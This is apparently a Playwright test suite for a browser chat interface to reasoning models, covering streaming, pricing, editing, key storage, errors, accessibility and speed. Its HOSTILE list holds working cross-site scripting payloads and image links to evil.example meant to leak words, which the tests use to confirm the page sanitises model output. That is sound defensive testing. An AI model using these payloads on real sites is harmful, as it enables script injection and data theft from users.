"""The chat page in headless Chromium, against a server whose words a test has written down."""

from __future__ import annotations

import re
import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect, sync_playwright
from tests.serve.conftest import ANSWER, THOUGHT, serving
from tests.serve.scripted import Script, ScriptedServer, scripted_server

CHROMIUM = shutil.which("chromium")

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs a browser: apt-get install chromium")

PATIENCE_MS = 120_000

expect.set_options(timeout=PATIENCE_MS)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def server() -> Iterator[ScriptedServer]:
    with scripted_server() as server:
        yield server


@pytest.fixture
def page(browser: Browser, server: ScriptedServer) -> Iterator[Page]:
    """The page, opened; what its console complains about fails the test."""
    context = browser.new_context(
        viewport={"width": 1280, "height": 800}, permissions=["clipboard-read", "clipboard-write"]
    )
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda said: complaints.append(said.text) if "Security Policy" in said.text else None)
    open_page(page, server)
    yield page
    context.close()
    assert not complaints


def open_page(page: Page, server: ScriptedServer) -> None:
    page.goto(server.url)
    page.wait_for_selector("#model-0 option", state="attached")


def ask(page: Page, question: str, answers: int = 1) -> None:
    """Ask, and wait until that many answers on the page have ended."""
    page.fill("#question", question)
    page.press("#question", "Enter")
    ended(page, answers)


def ended(page: Page, answers: int) -> None:
    expect(page.locator(".foot:not([hidden])")).to_have_count(answers)


def roles(body: dict) -> list[tuple[str, str]]:
    return [(message["role"], message["content"]) for message in body["messages"]]


def test_an_answer_streams_with_its_thought_folded_at_the_end_its_tokens_and_its_price(page: Page, server) -> None:
    server.scripts["2 + 2?"] = Script(["Two ", "and two ", "is four."], ["It is ", "**4**."])
    ask(page, "2 + 2?")
    expect(page.locator(".answer-text strong")).to_have_text("4")
    assert page.locator("details.thought").get_attribute("open") is None
    expect(page.locator("summary .clock")).to_have_text(re.compile(r"^\d\.\d s, 3 tokens$"))
    assert page.locator(".thought-text p").text_content() == "Two and two is four."
    # 64 · 140 + 36 · 550 + 5 · 2190 = 39,710 nano-USD
    expect(page.locator(".facts")).to_have_text(re.compile(r"^5 tokens · \d\.\d s · \$0\.000040$"))
    expect(page.locator("#meter")).to_have_text("105 tokens · $0.000040")


def test_a_thought_is_open_while_it_streams_and_stays_as_the_reader_leaves_it(page: Page, server) -> None:
    server.scripts["slow"] = Script(["Let me think."], ["Done."], gate=threading.Event())
    page.fill("#question", "slow")
    page.press("#question", "Enter")
    expect(page.locator("summary .label")).to_have_text("Thinking")
    expect(page.locator(".thought-text")).to_have_text("Let me think.")
    for _ in range(2):
        page.click("summary")
    server.scripts["slow"].gate.set()
    ended(page, 1)
    expect(page.locator("summary .label")).to_have_text("Thought")
    expect(page.locator(".thought-text")).to_be_visible()


HOSTILE = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg/onload=window.ran=1><math><mtext><style><img src=x onerror=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe><form action='/steal'><input></form>",
    "<style>body { display: none }</style><base href='https://evil.example/'>",
    "[a](javascript:window.ran=1) [b](JaVaScRiPt&colon;window.ran=1) [c](data:text/html,<script>parent.ran=1</script>)",
    "![x](https://evil.example/leak?words) ![y](javascript:window.ran=1)",
    '<https://evil.example/"onmouseover=window.ran=1>',
    '```"><img/src=x/onerror=window.ran=1>\n</code></pre><script>window.ran = 1</script>\n```',
    r"$\href{javascript:window.ran=1}{x}$ $\htmlData{onclick=window.ran=1}{x}$ $\includegraphics{https://evil.example/x}$",
    r"\[ \url{javascript:window.ran=1} \def\a{\a\a}\a \] $</span><script>window.ran = 1</script>$",
    "| <script>window.ran = 1</script> | b |\n|:-:|--:|\n| <img src=x onerror=window.ran=1> | c |",
    "[ref]: javascript:window.ran=1\n\n[ref] and <a href='javascript:window.ran=1' onclick='window.ran=1'>here</a>",
]


def test_nothing_that_a_model_says_runs_or_reaches_another_server(page: Page, server: ScriptedServer) -> None:
    reached: list[str] = []
    page.on("request", lambda request: reached.append(request.url))
    page.on("dialog", lambda dialog: reached.append(dialog.message))
    text = "\n\n".join(HOSTILE)
    server.scripts["attack"] = Script([text], [text[i : i + 11] for i in range(0, len(text), 11)])
    ask(page, "attack")
    page.click("summary")
    for link in page.locator(".prose a").all():
        assert (link.get_attribute("href") or "").startswith("https://evil.example/")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    found = page.evaluate(
        """() => ({
            ran: window.ran ?? null,
            elements: document.querySelectorAll("main :is(script, iframe, img, form, style, base, object)").length,
            handlers: [...document.querySelectorAll("main .prose *")].flatMap((one) => one.getAttributeNames())
                .filter((name) => name.startsWith("on")),
        })"""
    )
    assert found == {"ran": None, "elements": 0, "handlers": []}
    assert all(url.startswith(server.url) for url in reached)


def test_the_policy_stops_what_the_filters_would_miss(page: Page, server: ScriptedServer) -> None:
    refused = page.evaluate(
        """() => {
            const tried = [];
            try { document.body.innerHTML += "<b>x</b>"; } catch (error) { tried.push(error.name); }
            try { document.createElement("script").text = "window.ran = 1"; } catch (error) { tried.push(error.name); }
            return tried;
        }"""
    )
    assert refused == ["TypeError", "TypeError"]  # assignments of plain strings, refused by Trusted Types
    assert page.evaluate("window.ran ?? null") is None


RENDERINGS = {
    r"So \(x^2\) and $y_1$ cost $5 or $6.": ["x^2", "y_1"],
    "\\[\n\\begin{aligned}\na &= b \\\\\n- c &= d\n\\end{aligned}\n\\].\n\nafter": [
        "\\begin{aligned}\na &= b \\\\\n- c &= d\n\\end{aligned}\\text{.}"
    ],
    "1. so $$a + b$$ holds\n2. \\[ c \\] and more": ["a + b", "c"],
    "> $$\n> x\n> $$\n\n```\n$no$\n```": ["x"],
    r"\(never closed, $$ neither": [],
    r"a \\(not maths\\) and \$5 and \$6": [],
}


def test_maths_are_found_where_tex_writes_them(page: Page) -> None:
    found = page.evaluate(
        """async (texts) => {
            const { Flow } = await import("/page/markdown.js");
            return texts.map((text) => {
                const place = document.createElement("div");
                new Flow(place).finish(text);
                return [...place.querySelectorAll("annotation")].map((one) => one.textContent);
            });
        }""",
        list(RENDERINGS),
    )
    assert dict(zip(RENDERINGS, found, strict=True)) == RENDERINGS


def test_text_that_grows_by_a_letter_ends_as_text_that_came_whole(page: Page) -> None:
    different = page.evaluate(
        """async (texts) => {
            const { Flow } = await import("/page/markdown.js");
            const shown = (grow, text) => {
                const flow = new Flow(document.createElement("div"));
                for (let i = 1; grow && i <= text.length; i++) flow.update(text.slice(0, i));
                flow.finish(text);
                return flow.element.innerHTML;
            };
            return texts.filter((text) => shown(true, text) !== shown(false, text));
        }""",
        [
            *RENDERINGS,
            "# 1\n2\n===\n\n- a\n\n- b\n  1. c\n     > d\n\n\n1. e\n\n10. f\ntext\n---\n\n    code\n\n    c\n\nend",
            "| a | b |\n|---|---|\n| 1 | 2 |\n\n~~~python\nx = 1\n\n\ny = 2\n~~~\n**bold** `code`\n\n* * *\n\n> a\nb",
            "- x\n-\n- y\n\n1. a\n\n   $$\n   x\n\n   - y\n   $$\n2. b",
            *HOSTILE[:-1],
        ],
    )
    assert different == []


def test_stop_ends_the_request_and_the_conversation_goes_on(page: Page, server: ScriptedServer) -> None:
    server.scripts["count"] = Script([], ["one "] * 500, pause_s=0.05)
    page.fill("#question", "count")
    page.press("#question", "Enter")
    expect(page.locator(".answer-text")).to_contain_text("one one")
    page.keyboard.press("Escape")
    ended(page, 1)
    assert server.gone.wait(10)
    expect(page.locator(".facts")).to_have_text(re.compile(r"^stopped · about \d+ tokens"))
    ask(page, "and now?", 2)
    expect(page.locator("#meter")).to_have_text("at least 103 tokens · $0.000035")  # 64 · 140 + 36 · 550 + 3 · 2190
    (_, system_free, question) = roles(server.asked[-1])
    assert system_free[0] == "assistant"
    assert system_free[1].startswith("one one")
    assert question == ("user", "and now?")


def test_asking_again_and_editing_lose_nothing(page: Page, server: ScriptedServer) -> None:
    ask(page, "first")
    ask(page, "second", 2)
    page.locator(".turn").nth(1).get_by_role("button", name="Ask again").click()
    expect(page.locator(".turn").nth(1)).to_contain_text("2 of 2")
    ended(page, 2)
    page.locator(".turn").nth(0).get_by_role("button", name="Edit").click()
    page.get_by_label("Edit the question").fill("changed")
    page.keyboard.press("Enter")
    expect(page.locator(".turn")).to_have_count(1)
    ended(page, 1)
    assert roles(server.asked[-1]) == [("user", "changed")]
    page.get_by_role("button", name="Earlier").click()
    expect(page.locator(".question-text")).to_have_text(["first", "second"])
    expect(page.locator("#meter")).to_have_text(re.compile("^412 tokens"))  # four answers of 103
    ask(page, "third", 3)
    said = [
        ("user", "first"),
        ("assistant", "You asked: first"),
        ("user", "second"),
        ("assistant", "You asked: second"),
    ]
    assert roles(server.asked[-1]) == [*said, ("user", "third")]
    assert not any("reasoning_content" in message for message in server.asked[-1]["messages"])


def test_two_models_answer_side_by_side_each_with_its_own_past(page: Page, server: ScriptedServer) -> None:
    server.scripts["who?"] = Script([], ["I am reason."])
    server.scripts["zero: who?"] = Script([], ["I am zero."])
    page.click("#compare")
    ask(page, "who?", 2)
    assert page.locator(".answers-2 .answer").count() == 2
    expect(page.locator(".answer-text")).to_have_text(["I am reason.", "I am zero."])
    ask(page, "again?", 4)
    pasts = {body["model"]: roles(body)[1] for body in server.asked[-2:]}
    assert pasts == {"reason": ("assistant", "I am reason."), "zero": ("assistant", "I am zero.")}
    page.reload()
    expect(page.locator("#model-1")).to_be_visible()


def test_a_key_is_asked_for_and_kept_in_the_tab_only(browser: Browser, server: ScriptedServer) -> None:
    server.key, server.balance = "sk-right", "9.50"
    page = browser.new_page()
    page.goto(server.url)
    door = page.get_by_role("dialog", name="This server asks for a key")
    for key in ("sk-wrong", "sk-right"):
        door.get_by_label("API key").fill(key)
        page.keyboard.press("Enter")
    ask(page, "hello")
    expect(page.locator("#meter")).to_contain_text("9.50 USD left")
    kept = page.evaluate("[JSON.stringify({...localStorage}), sessionStorage['thinkery.key'], document.cookie]")
    assert "sk-" not in kept[0] + kept[2]
    assert kept[1] == "sk-right"
    page.context.close()


WRONG = {
    "Insufficient Balance": Script(status=402, message="Insufficient Balance"),
    "Too many Try again in 7 s.": Script(status=429, message="Too many", headers={"Retry-After": "7"}),
    "<b>The engine died</b>": Script(["hm"], tail=['data: {"error": {"message": "<b>The engine died</b>"}}\n\n']),
    "The connection ended before the answer did.": Script(content=["half"], tail=[": nothing\n\n"]),
    "The server sent something that is no answer.": Script(tail=["data: {nonsense\n\n"]),
    "": Script(tail=['data: [1]\n\ndata: {"choices": [{"delta": {"content": 7}}]}\n\ndata: [DONE]\n\n']),
}


def test_what_goes_wrong_is_said_and_can_be_asked_again(page: Page, server: ScriptedServer) -> None:
    for turn, (said, script) in enumerate(WRONG.items()):
        server.scripts["go"] = script
        ask(page, "go", turn + 1)
        here = page.locator(".turn").nth(turn)
        expect(here.locator(".answer .notice")).to_have_text(said)
        del server.scripts["go"]
        here.get_by_role("button", name="Ask again").click()
        expect(here.locator(".answer-text")).to_have_text("You asked: go")
        ended(page, turn + 1)


def test_conversations_stay_in_this_browser_and_a_deletion_can_be_taken_back(
    page: Page, server: ScriptedServer
) -> None:
    ask(page, "remember this")
    page.reload()
    expect(page.locator(".answer-text")).to_have_text("You asked: remember this")
    page.click("#new")
    expect(page.locator(".turn")).to_have_count(0)
    ask(page, "another")
    expect(page.locator("#list a")).to_have_text(["another", "remember this"])
    page.get_by_role("button", name="Delete remember this").click(force=True)
    expect(page.locator("#list a")).to_have_text(["another"])
    page.get_by_role("button", name="Undo").click()
    page.get_by_role("link", name="remember this").click()
    expect(page.locator(".question-text")).to_have_text("remember this")


def test_settings_and_the_system_message_go_with_every_request(page: Page, server: ScriptedServer) -> None:
    page.click("#open-settings")
    page.get_by_label("System message").fill("Be brief.")
    page.get_by_label("Temperature").fill("0.3")
    page.get_by_role("button", name="Done").click()
    ask(page, "hello")
    assert roles(server.asked[-1]) == [("system", "Be brief."), ("user", "hello")]
    assert server.asked[-1]["temperature"] == 0.3
    assert "max_tokens" not in server.asked[-1]


def test_the_keyboard_does_what_its_help_says(page: Page, server: ScriptedServer) -> None:
    ask(page, "hello")
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    help = page.get_by_role("dialog", name="Keyboard")
    expect(help.locator("kbd")).to_have_count(15)
    page.keyboard.press("Escape")
    expect(help).to_be_hidden()
    page.keyboard.press("t")
    expect(page.locator(".thought-text")).to_be_visible()
    page.keyboard.press("c")
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "You asked: hello"
    page.keyboard.press("r")
    expect(page.locator(".turn")).to_contain_text("2 of 2")
    ended(page, 1)
    with page.expect_download() as download:
        page.keyboard.press("s")
    assert (
        "## Question\n\nhello\n\n## reason\n\n> I know this.\n\nYou asked: hello\n" in download.value.path().read_text()
    )
    for shown in ("dark", "light"):
        page.keyboard.press("d")
        assert page.locator("html").get_attribute("data-theme") == shown
    page.keyboard.press("/")
    page.keyboard.type("typed?")
    expect(page.locator("#question")).to_have_value("typed?")


def test_the_page_of_a_real_server_talks_to_its_model(browser: Browser, thinker: Path, tmp_path: Path) -> None:
    with serving(thinker, folder=tmp_path) as real:
        page = browser.new_page()
        complaints: list[str] = []
        page.on("console", lambda said: complaints.append(said.text))
        page.goto(real.url)
        page.wait_for_selector("#model-0 option", state="attached")
        page.evaluate("localStorage['thinkery.choices'] = JSON.stringify({ temperature: 0 })")
        ask(page, "hello")
        expect(page.locator(".answer-text")).to_have_text(ANSWER)
        expect(page.locator(".thought-text p")).to_have_text(THOUGHT)
        expect(page.locator("#meter")).to_have_text(re.compile(r"^\d+ tokens · \$0\.\d+$"))
        assert complaints == []
        page.context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1440, 390])
def test_no_serious_fault_of_accessibility_and_no_sideways_scrolling(browser, server, scheme, width) -> None:
    table = "| a | b |\n|---|---|\n| " + "wide " * 40 + "| 2 |"
    server.scripts["show"] = Script(
        ["Hm, $x$."], [f"# Title\n\n\\[x^2 + {'y + ' * 90} z\\]\n\n```python\n{'x = 1; ' * 40}\n```\n\n{table}"]
    )
    context = browser.new_context(
        viewport={"width": width, "height": 844}, color_scheme=scheme, reduced_motion="reduce"
    )
    page = context.new_page()
    open_page(page, server)
    page.click("#compare")
    ask(page, "show", 2)
    page.locator("summary").first.click()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    faults = serious(page)
    page.locator("#question").blur()
    page.keyboard.press("?")
    faults += serious(page)
    assert faults == []
    context.close()


def serious(page: Page) -> list[str]:
    """The faults that axe-core calls serious or critical, each with its first element."""
    found = Axe().run(page).response["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html']}" for one in found if one["impact"] in ("serious", "critical")]


@pytest.mark.slow
def test_answers_of_a_hundred_thousand_characters_and_conversations_of_200_turns_stay_smooth(
    page: Page, server
) -> None:
    paragraph = "The quick brown fox $x^2$ **jumps**. " * 8 + "\n\n"
    code = "```python\n" + 'x = {"a": [1, 2, 3]}  # yes\n' * 3600 + "```"
    for question, text in {
        "prose": paragraph * 330,
        "code": code,
        "brackets": "[" * 100_000,
        "maths": "\\[\n" * 33_000,
    }.items():
        server.scripts[question] = Script([], [text[i : i + 40] for i in range(0, len(text), 40)])
        assert cpu_s(page, lambda question=question: alone(page, question)) < 6
    page.evaluate(
        """async () => {
            const { openShelf } = await import("/page/store.js");
            const { addTurn, newConversation } = await import("/page/conversation.js");
            const long = Object.assign(newConversation(), { id: "long", title: "long" });
            let parent = long;
            for (let i = 0; i < 200; i++) {
                parent = addTurn(parent, `Question ${i}`, ["reason"]);
                Object.assign(parent.answers[0], { thought: "Hm. ".repeat(99), thoughtEnded: 1, ended: 2 });
                parent.answers[0].content = "So $x^2$ is **it**.\\n\\n".repeat(20) + "```python\\nx = 1\\n```";
            }
            await (await openShelf()).put(long);
            location.hash = "long";
        }"""
    )
    ended(page, 200)
    assert cpu_s(page, lambda: ask(page, "one more", 201)) < 2


def alone(page: Page, question: str) -> None:
    page.click("#new")
    ask(page, question)


def cpu_s(page: Page, action: Callable[[], None]) -> float:
    """What the page's main thread computes during an action, however busy the machine is."""
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})

    def used() -> float:
        metrics = session.send("Performance.getMetrics")["metrics"]
        return next(one["value"] for one in metrics if one["name"] == "TaskDuration")

    before = used()
    action()
    return used() - before
